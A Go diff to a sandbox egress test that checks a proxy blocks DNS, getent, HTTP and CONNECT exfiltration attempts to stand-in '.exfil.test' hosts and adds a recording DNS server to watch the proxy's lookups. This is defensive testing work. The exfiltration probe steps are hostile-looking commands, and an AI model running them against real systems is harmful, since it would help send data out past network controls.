@@ -16,8 +16,10 @@ import (
 	"net"
 	"os"
 	"path/filepath"
+	"slices"
 	"strconv"
 	"strings"
+	"sync"
 )
 
 func init() {
@@ -73,13 +75,29 @@ func runP19(ctx context.Context, e *Env) Result {
 	tok := newToken()
 	audit := filepath.Join(e.TempDir("p19-audit"), "audit.jsonl")
 	bname := "b-" + tok + ".exfil.test"
-	o, s, err := e.proxyRun(ctx, allowedNet(h), []string{"--audit", audit},
-		step{Label: "dns", Args: []string{"dns", tok + ".exfil.test", udp.Addr()}},
-		step{Label: "getent", Shell: "getent hosts getent-" + tok + ".exfil.test; echo getent=$?"},
-		httpStep("http-exfil", "GET", "http://"+bname+"/", "Host:"+bname),
-		httpStep("connect-exfil", "CONNECT", bname+":443", "Host:"+bname+":443"),
-		httpStep("control", "GET", "http://"+h.hostPort("api.allowed.test")+"/", "Host:"+h.hostPort("api.allowed.test")),
-	)
+	// The proxy's own resolver is pointed at a recording DNS server
+	// (CORRAL_EGRESS_RESOLVER), so every name it resolves is seen; an
+	// allowed name outside the hosts map is the control that proves it.
+	pdns, err := newRecordingDNS("127.0.0.54:0")
+	if err != nil {
+		failNow(e, &r, "proxy DNS server", err)
+		return r
+	}
+	defer pdns.Close()
+	n := allowedNet(h)
+	n.allow = append(n.allow, ep{"dnsonly.allowed.test", []int{h.port}})
+	dnsonly := fmt.Sprintf("dnsonly.allowed.test:%d", h.port)
+	o, err := e.Corral(ctx, Run{Policy: e.policyFor(pol{Network: "proxy", NetRules: n.yaml()}), Flags: []string{"--audit", audit},
+		Env: []string{"CORRAL_EGRESS_RESOLVER=" + pdns.Addr()},
+		Args: e.steps(
+			step{Label: "dns", Args: []string{"dns", tok + ".exfil.test", udp.Addr()}},
+			step{Label: "getent", Shell: "getent hosts getent-" + tok + ".exfil.test; echo getent=$?"},
+			httpStep("http-exfil", "GET", "http://"+bname+"/", "Host:"+bname),
+			httpStep("connect-exfil", "CONNECT", bname+":443", "Host:"+bname+":443"),
+			httpStep("control", "GET", "http://"+h.hostPort("api.allowed.test")+"/", "Host:"+h.hostPort("api.allowed.test")),
+			httpStep("dns-control", "GET", "http://"+dnsonly+"/", "Host:"+dnsonly),
+		)})
+	s := parseSteps(o)
 	if err != nil {
 		failNow(e, &r, "corral run", err)
 		return r
@@ -98,7 +116,14 @@ func runP19(ctx context.Context, e *Env) Result {
 	checkStatus(e, &r, "CONNECT b-<token>.exfil.test:443", s["connect-exfil"], "403")
 	settle()
 	e.Check(&r, "host: the DNS server saw", fmt.Sprintf("%d datagrams, %d TCP connections", udp.Count(), tcp.Count()), udp.Count() == 0 && tcp.Count() == 0, "the test's DNS server received queries from the sandbox")
-	// The proxy resolved no denied name.
+	// The proxy resolved the allowed name it had to, and no denied one.
+	names := pdns.Names()
+	e.Check(&r, "host: names the proxy resolved", strings.Join(names, " "), slices.Contains(names, "dnsonly.allowed.test."), "the proxy did not resolve an allowed name through its resolver: its lookups cannot be observed")
+	for _, q := range names {
+		if strings.Contains(q, "exfil") {
+			e.Check(&r, "host: the proxy resolved "+q, "a query for a denied name", false, "the proxy resolved a denied name")
+		}
+	}
 	evs, err := egressEvents(audit)
 	e.Check(&r, "audit: egress events", fmt.Sprintf("%d events (%v)", len(evs), err), err == nil && len(evs) >= 3, "the audit log has no egress events")
 	for _, ev := range evs {
@@ -107,6 +132,63 @@ func runP19(ctx context.Context, e *Env) Result {
 		}
 	}
 	return r
+}
+
+// recordingDNS is a UDP DNS server on loopback that records each question
+// name and answers NXDOMAIN (RFC 1035 4.1).
+type recordingDNS struct {
+	pc    net.PacketConn
+	mu    sync.Mutex
+	names []string
+}
+
+func newRecordingDNS(addr string) (*recordingDNS, error) {
+	pc, err := net.ListenPacket("udp", addr)
+	if err != nil {
+		return nil, err
+	}
+	d := &recordingDNS{pc: pc}
+	go func() {
+		buf := make([]byte, 1500)
+		for {
+			n, from, err := pc.ReadFrom(buf)
+			if err != nil {
+				return
+			}
+			if n < 12 {
+				continue
+			}
+			name, end := "", 12
+			for end < n && buf[end] != 0 {
+				l := int(buf[end])
+				if end+1+l > n {
+					break
+				}
+				name += string(buf[end+1:end+1+l]) + "."
+				end += 1 + l
+			}
+			d.mu.Lock()
+			d.names = append(d.names, strings.ToLower(name))
+			d.mu.Unlock()
+			if end+5 > n {
+				continue
+			}
+			resp := append([]byte(nil), buf[:end+5]...)
+			resp[2] |= 0x80                // QR
+			resp[3] = (resp[3] & 0xf0) | 3 // RCODE NXDOMAIN
+			resp[6], resp[7], resp[8], resp[9], resp[10], resp[11] = 0, 0, 0, 0, 0, 0
+			pc.WriteTo(resp, from)
+		}
+	}()
+	return d, nil
+}
+
+func (d *recordingDNS) Addr() string { return d.pc.LocalAddr().String() }
+func (d *recordingDNS) Close()       { d.pc.Close() }
+func (d *recordingDNS) Names() []string {
+	d.mu.Lock()
+	defer d.mu.Unlock()
+	return append([]string(nil), d.names...)
 }
 
 type egressEvent struct {
